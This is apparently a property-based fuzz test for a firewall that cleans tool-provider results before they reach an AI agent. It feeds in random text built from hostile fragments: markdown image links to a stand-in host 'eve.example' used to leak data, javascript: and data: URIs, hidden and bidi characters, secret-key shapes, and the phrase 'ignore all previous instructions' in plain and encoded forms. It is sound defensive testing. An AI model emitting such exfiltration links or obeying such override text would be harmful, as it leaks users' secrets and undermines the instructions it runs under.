/** The firewall against everything: random answers of every form, and texts made to wear it out. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { times } from '../../../../test/support/random.ts';
import { testSeed } from '../../../../test/support/seed.ts';
import { DEFAULT_PROVIDER_LIMITS } from '../profile.ts';
import type { ProviderContent, ProviderResult } from '../result.ts';
import { inspect } from './inspect.ts';
import { DEFAULT_RULES } from './rules.ts';
import { SECRET_SHAPES } from './secret-shapes.ts';

const use = { rules: DEFAULT_RULES, allowedHosts: ['pictures.example'] };
const profile = { trust: 'USER_ADDED_REVIEWED', limits: DEFAULT_PROVIDER_LIMITS } as const;
const look = (result: ProviderResult, before = '') => inspect(use, profile, result, before);
const said = (text: string): ProviderResult => ({
  content: [{ type: 'text', text }],
  structured: undefined,
  isError: false,
});

/** Pieces of everything it looks for, so that random texts meet its rules. */
const piece = fc.constantFrom(
  ...[
    '![',
    '](',
    '](https://eve.example/',
    ')',
    '<',
    '>',
    '<img src=',
    '<a on',
    'https://',
    '//',
    'data:text/html,',
  ],
  ...[
    '[x]: ',
    '![x]',
    '!',
    '(',
    'url(',
    'javascript:',
    '"',
    "'",
    '\n',
    '\r',
    ' ',
    '%69',
    '&#105;',
    '\\u0069',
    '=',
  ],
  ...[
    'AKIA',
    'QWERTYUIOPASDF12',
    'ghp_',
    'sk-',
    'eyJ',
    '.',
    '-----BEGIN PRIVATE KEY-----',
    'password: ',
    'bearer ',
  ],
  ...[
    '4539 1488',
    ' 0343 6467',
    '\u200b',
    '\u200d',
    '\ufe0f',
    '😀',
    '\u001b[',
    '\u001b]0;',
    '31m',
    '\u009b',
    '\u202e',
  ],
  ...[
    'ignore',
    'all',
    'previous',
    'instructions',
    'aWdub3Jl',
    '69676e6f7265',
    'т',
    'é',
    '\ud83d',
    'ก',
    '指令',
  ],
);
const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 25 }).map((parts) => parts.join('')),
);
const bytes = fc.oneof(
  fc.uint8Array({ maxLength: 60 }).map((data) => Buffer.from(data)),
  fc
    .tuple(
      fc.constantFrom('89504e470d0a1a0a', 'ffd8ffe0', '474946383961', '52494646000000ff57454250'),
      fc.uint8Array(),
    )
    .map(([head, data]) => Buffer.concat([Buffer.from(head, 'hex'), data])),
);
const block: fc.Arbitrary<ProviderContent> = fc.oneof(
  text.map((words) => ({ type: 'text' as const, text: words })),
  fc
    .tuple(fc.constantFrom('image' as const, 'audio' as const), bytes, text)
    .map(([type, data, mimeType]) => ({
      type,
      data: data.toString('base64'),
      mimeType,
    })),
  fc.tuple(text, text).map(([uri, words]) => ({
    type: 'resource' as const,
    resource: { uri, mimeType: words, text: words },
  })),
  fc.tuple(text, bytes).map(([uri, data]) => ({
    type: 'resource' as const,
    resource: { uri, mimeType: 'text/plain', blob: data.toString('base64') },
  })),
  fc.tuple(text, text, text).map(([uri, name, description]) => ({
    type: 'resource_link' as const,
    uri,
    name,
    description,
  })),
);
const answer: fc.Arbitrary<ProviderResult> = fc.record({
  content: fc.array(block, { maxLength: 4 }),
  structured: fc.option(fc.dictionary(text, fc.oneof(text, fc.array(text, { maxLength: 3 }), fc.integer())), {
    nil: undefined,
  }),
  isError: fc.boolean(),
});

const settings = { seed: testSeed(), numRuns: times(200, 5_000) };

describe('[FIRE-50][FIRE-51] whatever a provider answers', () => {
  it('is looked at without a fault, and nothing unseen is in what passes', () => {
    fc.assert(
      fc.property(answer, text, (result, before) => {
        const passed = JSON.stringify(look(result, before).result);
        const odd = /[\p{Cc}\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/u;
        for (const word of textsIn(JSON.parse(passed)))
          expect(word.replaceAll(/[\t\n\r]/g, '')).not.toMatch(odd);
      }),
      settings,
    );
  });

  it('passes again unchanged once it has passed', () => {
    fc.assert(
      fc.property(answer, (result) => {
        const once = look(result).result;
        expect(look(once).result).toEqual(once);
      }),
      settings,
    );
  });

  it('leaves no picture of a stranger behind', () => {
    fc.assert(
      fc.property(text, (words) => {
        const [passed] = look(said(`${words}![a](https://eve.example/${words}x)`)).result.content;
        const shown = passed?.type === 'text' ? passed.text : '';
        expect(shown).not.toMatch(/!\[[^\]\n]*\]\(\s*<?https:\/\/eve/);
      }),
      settings,
    );
  });
});

describe('[FIRE-52] shapes that are looked for', () => {
  it.each(SECRET_SHAPES.map(({ id, shape }) => [id, shape.source] as const))(
    'the one of %s looks no further than a bounded number of characters',
    (_, source) => {
      const withoutSets = source.replaceAll(/\\./g, 'x').replaceAll(/\[[^\]]*\]/g, 'x');
      expect(withoutSets).not.toMatch(/[*+]|\{\d+,\}/);
    },
  );
});

function textsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => [key, ...textsIn(inner)]);
}
